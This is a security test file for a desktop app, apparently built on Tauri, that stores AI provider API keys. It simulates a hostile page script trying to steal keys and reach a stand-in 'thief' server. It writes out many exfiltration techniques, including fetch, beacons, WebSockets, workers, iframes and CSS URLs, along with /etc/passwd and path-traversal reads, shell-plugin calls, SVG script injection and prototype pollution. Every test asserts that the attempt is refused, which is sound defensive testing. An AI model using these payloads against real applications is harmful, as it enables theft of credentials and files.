/**
 * A script running in the page, wherever it came from, tries to get a key, a file and another host, with an attacker's
 * server on another port. It gets none of them. A history that cannot be opened gets its own page.
 */

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { serve } from "./lib/provider.mjs";
import { shoot } from "./lib/shots.mjs";
import { freshHome, open, removeHome } from "./lib/window.mjs";

const run = promisify(execFile);
const SCRIPT = fileURLToPath(new URL("lib/dialog.py", import.meta.url));

describe("a script in the page", () => {
  const key = `marker${randomBytes(18).toString("hex")}`;
  let home;
  let thief;
  let window;
  let id;
  let opened;
  const browsers = mkdtempSync(path.join(tmpdir(), "browser-"));

  /** Calls a command as a script can; returns its answer or its refusal. */
  const tries = (name, given = {}) =>
    window.browser.execute(
      (n, g) =>
        window.__TAURI_INTERNALS__.invoke(n, g).then(
          (answer) => ({ answer }),
          (refusal) => ({ refusal: JSON.stringify(refusal) ?? String(refusal) }),
        ),
      name,
      given,
    );
  /** Calls a command without waiting for its answer, for which `ended` waits. */
  const begins = (name, given) =>
    window.browser.execute(
      (n, g) => {
        window.begun = window.__TAURI_INTERNALS__.invoke(n, g).then(
          (answer) => ({ answer }),
          (refusal) => ({ refusal: JSON.stringify(refusal) }),
        );
      },
      name,
      given,
    );
  const ended = () => window.browser.execute(() => window.begun);
  /** What the system's dialog says, once this button of it is pressed. */
  const answered = async (button) => {
    const { stdout } = await run("/usr/bin/python3", [SCRIPT, String(window.pid), button]);
    return JSON.parse(stdout);
  };
  const stolen = () => thief.requests.filter(({ authorization }) => authorization.includes(key));
  const endpoint = (url, given = null) => ({
    endpoint: {
      id: given,
      label: "GPU box",
      dialect: "openai-chat",
      base_url: url,
      key_needed: true,
      confirm_plain_http: true,
    },
  });

  before(async () => {
    home = await serve({ m: () => ({ status: 404, body: {} }) });
    thief = await serve({ m: () => ({ status: 404, body: {} }) });
    // What would be the user's browser keeps the address that it is given.
    const browser = path.join(browsers, "browser");
    opened = path.join(browsers, "opened");
    writeFileSync(browser, `#!/bin/sh\necho "$1" > '${opened}'\n`, { mode: 0o755 });
    window = await open({ env: { DEEPSEEK_API_KEY: key, BROWSER: browser } });
    const saved = await tries("save_endpoint", endpoint(home.url));
    id = saved.answer.id;
    await tries("set_key", { provider: id, key, sessionOnly: false });
    await tries("set_key", { provider: "groq", key, sessionOnly: false });
  });
  after(async () => {
    for (const provider of ["groq", "deepseek"]) {
      await tries("set_address", { provider, baseUrl: null, confirmPlainHttp: false });
      await tries("forget_key", { provider });
    }
    await tries("save_endpoint", endpoint(home.url, id));
    await tries("remove_endpoint", { id });
    await window?.close();
    home?.close();
    thief?.close();
    rmSync(browsers, { recursive: true });
  });

  it("sends a key to the address it was given for", async () => {
    await tries("list_models", { provider: id });
    assert.equal(home.requests.at(-1)?.authorization, `Bearer ${key}`, "so the rest of this file means something");
  });

  it("gets no key by moving an address", async () => {
    const moved = await tries("save_endpoint", endpoint(thief.url, id));
    assert.equal(moved.answer?.kept, undefined, "a moved endpoint has no key");
    await tries("list_models", { provider: id });
    for (const provider of ["groq", "deepseek"]) {
      await tries("set_address", { provider, baseUrl: thief.url, confirmPlainHttp: true });
      await tries("copy_key", { provider, sessionOnly: true });
      await tries("list_models", { provider });
    }
    assert.deepEqual(stolen(), [], "the key went to nobody else");
    await tries("save_endpoint", endpoint(home.url, id));
    await tries("list_models", { provider: id });
    assert.equal(home.requests.at(-1)?.authorization, `Bearer ${key}`, "back at home it has its key again");
  });

  it("gets no key by another's name, or as a server that was found", async () => {
    for (const name of ["proxy", "custom", "groq", `groq@${thief.url}`]) {
      const taken = await tries("save_endpoint", endpoint(thief.url, name));
      assert.ok(taken.refusal, `${name} is nobody's to take`);
    }
    await tries("set_address", { provider: "groq", baseUrl: null, confirmPlainHttp: false });
    const server = { provider: "groq", label: "Groq", base_url: thief.url, models: [], loaded: [] };
    const found = await tries("keep_local_server", { server });
    assert.match(found.refusal ?? "", /has a key/, "an address with a key is not replaced");
    assert.deepEqual(stolen(), [], "and the key went to nobody");
  });

  it("chooses no certificates, with which a server of its own could read every key", async () => {
    const network = { proxy: { kind: "custom", url: thief.url }, ca_file: "/etc/ssl/certs/ca-certificates.crt" };
    const { refusal } = await tries("set_network", { network });
    assert.match(refusal ?? "", /outside this window/, "only the user does, outside the window");
    const kept = await tries("network");
    assert.equal(kept.answer.network.ca_file ?? null, null, "nothing was changed");
    assert.equal(kept.answer.network.proxy.kind, "system", "the proxy neither");
  });

  it("names no proxy that reads a key", async () => {
    const box = (await tries("save_endpoint", endpoint("http://10.77.77.7:8000/v1"))).answer.id;
    await tries("set_key", { provider: box, key, sessionOnly: true });
    const thiefs = { kind: "custom", url: new URL(thief.url).origin };
    const { network: before } = (await tries("network")).answer;
    for (const network of [
      { proxy: thiefs, own: {}, plain_http: [] },
      { proxy: { kind: "system" }, own: { [box]: thiefs }, plain_http: [] },
    ]) {
      const set = await tries("set_network", { network });
      assert.ok(set.answer, `a proxy may be chosen: ${set.refusal}`);
      const { refusal } = await tries("list_models", { provider: box });
      assert.match(refusal ?? "", /key was not sent/, "but not for a key that it could read");
    }
    assert.deepEqual(stolen(), [], "the key went to nobody");
    await tries("set_network", { network: before });
    await tries("remove_endpoint", { id: box });
  });

  it("gets no file, no folder and no command that is not granted", async () => {
    for (const [name, given] of [
      ["refresh_prices", { from: "/etc/passwd" }],
      ["plugin:path|resolve_directory", { directory: 21 }],
      ["plugin:window|create", { options: { label: "x", url: thief.url } }],
      ["plugin:webview|create_webview_window", { options: { label: "x", url: thief.url } }],
      ["plugin:webview|internal_toggle_devtools", {}],
      ["plugin:app|version", {}],
      ["plugin:event|listen", { event: "x", target: { kind: "Any" }, handler: 1 }],
    ]) {
      const { answer, refusal } = await tries(name, given);
      assert.match(refusal ?? "", /not allowed|not found/i, `${name} is refused: ${JSON.stringify(answer)}`);
    }
    const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`;
    for (const text of [
      "#!/bin/sh\necho",
      svg('<g onload="alert(1)"/>'),
      svg("<foreignObject/>"),
      `<!DOCTYPE svg [<!ENTITY x "">]>${svg("&x;")}`,
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
    ]) {
      const base64 = Buffer.from(text).toString("base64");
      const saved = await tries("save_picture", { name: "../../x", format: "svg", base64 });
      assert.match(saved.refusal ?? "", /not a svg picture/, `only a picture is saved as one: ${text}`);
    }
  });

  it("opens no page in the browser, which only the user does, outside the page", async () => {
    const told = `${thief.url}/?saw=${key}`;
    await begins("open_link", { link: told });
    const seen = await answered("-");
    assert.ok(seen.texts.includes(told), `the whole address is shown: ${JSON.stringify(seen)}`);
    await shoot(window.browser, "open-link-asked");
    const second = await tries("open_link", { link: `${thief.url}/again` });
    assert.match(second.refusal ?? "", /open/, "one question at a time");
    await answered("Cancel");
    assert.deepEqual(await ended(), { answer: null }, "no is no failure");
    assert.equal(existsSync(opened), false, "and no browser was started");
    await begins("open_link", { link: told });
    await answered("Open");
    assert.deepEqual(await ended(), { answer: null }, "and yes none either");
    await window.browser.waitUntil(() => existsSync(opened), { timeoutMsg: "the user's yes is one" });
    assert.equal(readFileSync(opened, "utf8"), `${told}\n`, "with this address");
  });

  it("reaches no other host, by whatever way", async () => {
    const before = thief.requests.length;
    const connected = thief.connections.length;
    const here = await window.browser.execute(() => location.href);
    const udp = createSocket("udp4");
    const heard = [];
    udp.on("message", (message) => heard.push(message));
    await new Promise((resolve) => udp.bind(0, "127.0.0.1", resolve));
    await window.browser.execute(
      async (url, port) => {
        const soon = () => new Promise((resolve) => setTimeout(resolve, 1000));
        const attempt = (way) =>
          Promise.race([
            soon(),
            Promise.resolve()
              .then(way)
              .catch(() => undefined),
          ]);
        const ways = [
          () => fetch(url),
          () =>
            fetch(`${url}/no-cors`, {
              mode: "no-cors",
              method: "POST",
              body: "x",
              keepalive: true,
            }),
          () => navigator.sendBeacon(url, "x"),
          () => new WebSocket(url.replace("http", "ws")),
          () => new EventSource(`${url}/events`),
          () => new Worker(`${url}/worker.js`),
          () => navigator.serviceWorker.register(`${url}/service.js`),
          () => import(/* @vite-ignore */ `${url}/module.js`),
          () => new FontFace("x", `url(${url}/font)`).load(),
          () => window.open(url),
          () => window.open(url, "_self"),
          () => window.open(url, "x", "noopener"),
        ];
        await Promise.all(ways.map(attempt));
        await attempt(() => {
          const request = new XMLHttpRequest();
          request.open("GET", `${url}/xhr`, false);
          request.send();
        });
        await attempt(async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
          peer.createDataChannel("x");
          await peer.setLocalDescription(await peer.createOffer());
        });
        const put = (name, attributes) => {
          const element = document.createElement(name);
          for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
          document.body.append(element);
          return element;
        };
        put("img", { src: `${url}/image`, srcset: `${url}/set 2x` });
        put("script", { src: `${url}/script.js` });
        put("iframe", { src: `${url}/frame` });
        put("iframe", {
          srcdoc: `<script>fetch("${url}/srcdoc")</` + `script><img src="${url}/srcdoc-image">`,
        });
        put("object", { data: `${url}/object` });
        put("embed", { src: `${url}/embed` });
        put("video", { src: `${url}/video`, poster: `${url}/poster`, preload: "auto" });
        put("audio", { src: `${url}/audio`, preload: "auto" });
        for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest"]) {
          put("link", { rel, href: `${url}/${rel}`, as: "script" });
        }
        for (const rel of ["preconnect", "dns-prefetch", "prerender"]) {
          put("link", { rel, href: url });
          put("link", { rel, href: url, crossorigin: "use-credentials" });
        }
        put("style", {}).textContent = `@import url(${url}/import); body { cursor: url(${url}/cursor), auto }`;
        put("div", { style: `background: url(${url}/background)` });
        put("meta", { "http-equiv": "refresh", content: `0; url=${url}/refreshed` });
        put("base", { href: url });
        put("a", { href: `${url}/link`, ping: `${url}/ping` }).click();
        put("a", { href: `${url}/blank`, target: "_blank" }).click();
        put("a", { href: `${url}/download`, download: "x" }).click();
        put("form", { method: "post", action: url }).submit();
        put("form", { action: `${url}/blank-form`, target: "_blank" }).submit();
        location.href = `${url}/navigated`;
      },
      thief.url,
      udp.address().port,
    );
    await window.browser.pause(1500);
    assert.equal(await window.browser.execute(() => location.href), here, "the window stayed where it was");
    const reached = thief.requests.slice(before).map((request) => request.path);
    udp.close();
    assert.deepEqual(reached, [], "nothing reached the other host");
    assert.deepEqual(thief.connections.slice(connected), [], "nor was a connection made to it, with nothing asked");
    assert.deepEqual(heard, [], "nor a port of its own");
    await window.browser.execute(() => location.reload());
    await window.browser.pause(500);
    assert.equal((await window.browser.getWindowHandles()).length, 1, "and no other window opened");
  });

  it("reads no file and reaches nobody by other addresses, workers or the transport of commands", async () => {
    const requested = thief.requests.length;
    const connected = thief.connections.length;
    const gained = await window.browser.execute(async (url) => {
      const soon = () => new Promise((resolve) => setTimeout(resolve, 1500));
      const got = [];
      const attempt = (name, way) =>
        Promise.race([
          soon(),
          Promise.resolve()
            .then(way)
            .then((gain) => gain && got.push(`${name}: ${String(gain).slice(0, 80)}`))
            .catch(() => undefined),
        ]);
      const text = (address, given) => async () => {
        const answer = await fetch(address, given);
        return answer.ok && (await answer.text());
      };
      const command = (headers, body = "{}") =>
        text("ipc://localhost/plugin%3Apath%7Cresolve_directory", { method: "POST", headers, body });
      const own = window.__TAURI_INTERNALS__;
      await Promise.all([
        ...["file:///etc/passwd", "file:/etc/hostname", "asset://localhost/etc/passwd", "http://asset.localhost/etc/passwd",
          "safe-mode://localhost/", "http://safe-mode.localhost/", "safe-mode://localhost/move-aside"].map((address) =>
          attempt(address, text(address))),
        attempt("a path above", async () => {
          const found = await text("tauri://localhost/..%2f..%2f..%2f..%2fetc%2fpasswd")();
          return /root:/.test(found || "") && found;
        }),
        ...[
          {},
          { "Tauri-Callback": "1", "Tauri-Error": "2" },
          { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "x" },
          { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "x", Origin: "tauri://localhost" },
        ].map((headers, at) => attempt(`the transport, ${at}`, command(headers, '{"directory":21}'))),
        ...["plugin:fs|read_text_file", "plugin:shell|execute", "plugin:http|fetch", "plugin:opener|open_url",
          "plugin:dialog|open", "plugin:process|exit", "plugin:event|emit", "plugin:window|get_all_windows",
          "plugin:webview|create_webview", "plugin:resources|close", "plugin:menu|new", "plugin:tray|new",
          "plugin:image|from_path", "plugin:window-state|restore_state", "plugin:deep-link|get_current",
          "plugin:path|join", "no_such_command"].map((name) =>
          attempt(name, () => own.invoke(name, { path: "/etc/passwd", program: "id", url, cmd: "id", options: {} }).then(() => "done"))),
        attempt("another window's name", () => {
          try {
            own.metadata.currentWindow.label = "safe-mode";
            own.metadata.currentWebview.label = "safe-mode";
          } catch {
            // It cannot be changed.
          }
          return own.invoke("plugin:window|close", {}).then(() => "done");
        }),
        attempt("a file by its address", () => own.convertFileSrc && text(own.convertFileSrc("/etc/passwd"))()),
        attempt("a worker of one's own", () => new Promise((resolve) => {
          const blob = new Blob([`fetch("${url}/of-a-worker", { mode: "no-cors" }).then(() => postMessage("reached"))`]);
          const worker = new Worker(URL.createObjectURL(blob));
          worker.onmessage = ({ data }) => resolve(data);
        })),
        attempt("a shared worker", () => new SharedWorker(`${url}/shared.js`) && null),
        attempt("a worklet", () => new AudioContext().audioWorklet.addModule(`${url}/worklet.js`).then(() => "loaded")),
        attempt("a transport", () => new WebTransport(url.replace("http:", "https:")).ready.then(() => "ready")),
        attempt("a socket of another kind", () => new WebSocket(`${url.replace("http", "wss")}/s`) && null),
        attempt("a frame of its own", () => {
          const frame = document.createElement("iframe");
          document.body.append(frame);
          return frame.contentWindow?.fetch?.(`${url}/of-a-frame`, { mode: "no-cors" }).then(() => "reached");
        }),
        attempt("a document of its own", () => {
          const page = document.implementation.createHTMLDocument("");
          page.body.innerHTML = `<img src="${url}/of-a-document">`;
          document.body.append(document.importNode(page.body.firstChild, true));
        }),
        attempt("the clipboard", () => navigator.clipboard.readText()),
        attempt("a share", () => navigator.share({ url }).then(() => "shared")),
        attempt("a payment", () => new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment()),
        attempt("a login", () => navigator.credentials.get({ password: true })),
      ]);
      for (const [name, attributes] of [
        ["link", { rel: "stylesheet", href: "file:///etc/passwd" }],
        ["iframe", { src: "file:///etc/passwd" }],
        ["iframe", { src: `data:text/html,<img src="${url}/of-data">` }],
        ["iframe", { src: `javascript:parent.fetch("${url}/of-a-script")` }],
        ["svg", {}],
        ["input", { type: "image", src: `${url}/input` }],
        ["track", { src: `${url}/track`, default: "" }],
        ["portal", { src: url }],
        ["fencedframe", { src: url }],
      ]) {
        const element = document.createElement(name);
        for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
        document.body.append(element);
      }
      document.body.insertAdjacentHTML(
        "beforeend",
        `<svg><image href="${url}/svg-image"/><use href="${url}/svg-use#x"/><style>@import "${url}/svg-style";</style></svg>
         <math><mtext href="${url}/math">x</mtext></math><div style="list-style: url(${url}/list); mask: url(${url}/mask)">x</div>
         <picture><source srcset="${url}/picture"><img></picture>`,
      );
      for (const target of ["file:///etc/passwd", "asset://localhost/etc/passwd", "safe-mode://localhost/restart", `javascript:void fetch("${url}/navigated-script")`, "data:text/html,x", "blob:null/x", "about:blank#x"]) {
        try {
          location.assign(target);
        } catch {
          // A refusal.
        }
      }
      await soon();
      return got;
    }, thief.url);
    assert.deepEqual(gained, [], "nothing was gained");
    assert.match(await window.browser.execute(() => location.href), /^tauri:|^http:\/\/tauri\.localhost/, "it is where it was");
    const reached = thief.requests.slice(requested).map((request) => request.path);
    assert.deepEqual(reached, [], "nothing reached the other host");
    assert.deepEqual(thief.connections.slice(connected), [], "nor was a connection made to it");
    await window.browser.execute(() => location.reload());
    await window.browser.pause(500);
    assert.equal((await window.browser.getWindowHandles()).length, 1, "and no other window opened");
  });

  it("changes nothing that every object has", async () => {
    const [frozen, polluted] = await window.browser.execute(() => {
      for (const pollute of [
        () => (Object.prototype.polluted = 1),
        () => (JSON.parse('{"__proto__":{"polluted":1}}').__proto__.x = 1),
        () => Object.defineProperty(Object.prototype, "polluted", { value: 1 }),
        () => Object.setPrototypeOf(Object.prototype, { polluted: 1 }),
        () => Object.assign({}.constructor.prototype, { polluted: 1 }),
        () => delete Object.prototype.hasOwnProperty,
      ]) {
        try {
          pollute();
        } catch {
          // A refusal.
        }
      }
      return [Object.isFrozen(Object.prototype), "polluted" in {} || !("hasOwnProperty" in {})];
    });
    assert.equal(frozen, true, "what every object has is frozen");
    assert.equal(polluted, false, "and stays as it is, whatever a script tries");
  });
});

describe("a history that cannot be opened", () => {
  let home;
  let window;
  const data = () => path.join(home, "data");

  before(async () => {
    home = freshHome();
    writeFileSync(path.join(data(), "paceline.db"), "Dear diary, ".repeat(1000));
    window = await open({ home, shows: "#why", sized: false });
  });
  after(async () => {
    await window?.close();
    removeHome(home);
  });

  it("is told in the window, with ways on", async () => {
    const { browser } = window;
    assert.match(await browser.$("#why").getText(), /is damaged/, "what is wrong");
    assert.ok(await browser.$("#restart").isExisting(), "it can be tried again");
    assert.ok(await browser.$("#move-aside").isExisting(), "a new one can be started");
    assert.ok(await browser.$("#folder").isExisting(), "and the folder be looked into");
    await shoot(browser, "safe-mode");
    assert.deepEqual(
      readdirSync(data()).filter((name) => name.startsWith("paceline.db.")),
      [],
      "nothing was changed by looking",
    );
    assert.ok(existsSync(path.join(data(), "paceline.db")), "the file is where it was");
  });
});
